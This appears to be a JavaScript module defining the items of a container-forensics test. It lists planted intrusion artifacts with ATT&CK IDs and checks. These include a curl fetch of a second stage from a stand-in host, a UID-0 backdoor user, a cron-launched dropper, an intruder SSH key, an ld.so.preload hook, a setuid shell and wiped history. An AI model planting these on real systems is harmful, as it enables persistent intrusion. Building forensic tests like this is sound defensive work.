import { link, lstat } from '../host.mjs';
import { change, content, expect, file } from '../look.mjs';
import { VOLUME, WEB } from '../stage.mjs';
import { made, utf8 } from './made.mjs';

/** Files of the container that was broken into, and of its volume. */
export function fileItems(facts) {
  const f = (id, path, techniques, what, check, more = {}) =>
    made(id, 'file', WEB, techniques, what, { path, ...more }, check);
  return [
    f(
      'dropper',
      '/tmp/.ICE-unix/.cache/.d.sh',
      ['T1564.001', 'T1105'],
      'a dropper in a hidden file under /tmp',
      (s) => expect(utf8(content(s, '/tmp/.ICE-unix/.cache/.d.sh')).includes('/stage2'), 'it holds something else'),
      { string: '/stage2' },
    ),
    f(
      'replaced-binary',
      '/usr/bin/ls',
      ['T1554'],
      'a system binary was replaced by a script that hides files',
      async (s) => {
        expect(utf8(content(s, '/usr/bin/ls')).startsWith('#!/bin/sh'), 'it is no script');
        await change(s, '/usr/bin/ls', 0);
      },
      { string: 'grep -v -e kdevtmpfsi' },
    ),
    f(
      'uid-0-user',
      '/etc/passwd',
      ['T1136.001'],
      'a second user with UID 0',
      (s) => expect(utf8(content(s, '/etc/passwd')).includes('\nsysbackup:x:0:0:'), 'no such line'),
      { string: 'sysbackup:x:0:0::/root:/bin/bash' },
    ),
    f(
      'cron',
      '/etc/cron.d/apt-compat',
      ['T1053.003'],
      'a cron entry that runs the dropper',
      (s) => {
        content(s, '/etc/cron.d/apt-compat');
      },
      { string: '*/5 * * * * root /tmp/.ICE-unix/.cache/.d.sh' },
    ),
    f(
      'authorized-keys',
      '/root/.ssh/authorized_keys',
      ['T1098.004'],
      'a key that lets the intruder in',
      (s) => expect(utf8(content(s, '/root/.ssh/authorized_keys')).includes('ops@update-cdn.example'), 'another key'),
      { string: 'ops@update-cdn.example' },
    ),
    f(
      'ld-so-preload',
      '/etc/ld.so.preload',
      ['T1574.006'],
      'a library that is loaded into every program',
      (s) => {
        expect(utf8(content(s, '/etc/ld.so.preload')) === '/usr/lib/libsysutil.so.1\n', 'it names another library');
        content(s, '/usr/lib/libsysutil.so.1');
      },
      { string: '/usr/lib/libsysutil.so.1' },
    ),
    f(
      'setuid-file',
      '/var/tmp/.dsh',
      ['T1548.001'],
      'a setuid copy of a shell',
      (s) => expect(((lstat(file(s, '/var/tmp/.dsh'))?.mode ?? 0) & 0o4000) !== 0, 'no setuid bit'),
      { mode: '4755' },
    ),
    f(
      'history-wiped',
      '/root/.bash_history',
      ['T1070.003', 'T1070'],
      'the shell history is a link to /dev/null',
      (s) => expect(link(file(s, '/root/.bash_history')) === '/dev/null', 'it is no such link'),
      { string: '/dev/null' },
    ),
    f(
      'timestomped',
      '/usr/local/sbin/logrotate-helper',
      ['T1070.006'],
      'a new file whose mtime was set to 2023',
      (s) => {
        const at = lstat(file(s, '/usr/local/sbin/logrotate-helper'));
        expect(
          at?.mtime.toISOString() === '2023-02-11T04:05:06.000Z' && at.ctime > new Date('2026-01-01'),
          'its times are others',
        );
      },
      { mtime: '2023-02-11T04:05:06.000Z' },
    ),
    f(
      'deleted-log',
      '/var/log/shop/access.log',
      ['T1070.002', 'T1070'],
      'a log of the image was deleted: a whiteout in the upper layer',
      (s) => change(s, '/var/log/shop/access.log', 2),
    ),
    f(
      'uploaded-script',
      '/srv/shop/uploads/attack.sh',
      ['T1190', 'T1505.003'],
      'the intruder’s script, put there through the web service',
      (s) => {
        content(s, '/srv/shop/uploads/attack.sh');
      },
    ),
    f(
      'tmpfs-file',
      '/run/shop/.session',
      [],
      'a file on a tmpfs: in no layer and no export',
      (s) => expect(utf8(content(s, '/run/shop/.session')).includes('0d9f4c2b1e'), 'it holds something else'),
      { string: 'aes key 0d9f4c2b1e' },
    ),
    f(
      'shm-file',
      '/dev/shm/.k',
      ['T1059.004'],
      'a script in shared memory, decoded by the exec',
      (s) =>
        expect(
          utf8(content(s, '/dev/shm/.k')).startsWith('curl http://update-cdn.example/'),
          'it holds something else',
        ),
      { string: 'curl http://update-cdn.example/stage2' },
    ),
    made(
      'stolen-data',
      'volume',
      WEB,
      ['T1074.001', 'T1560'],
      'stolen data, packed in a hidden file of a volume',
      { volume: VOLUME, path: '/var/backups/shop/.dump.tgz', hostPath: `${facts.volume}/.dump.tgz` },
      (s) => expect((lstat(`${s.host.root}${facts.volume}/.dump.tgz`)?.size ?? 0) > 100, 'the volume does not hold it'),
    ),
  ];
}
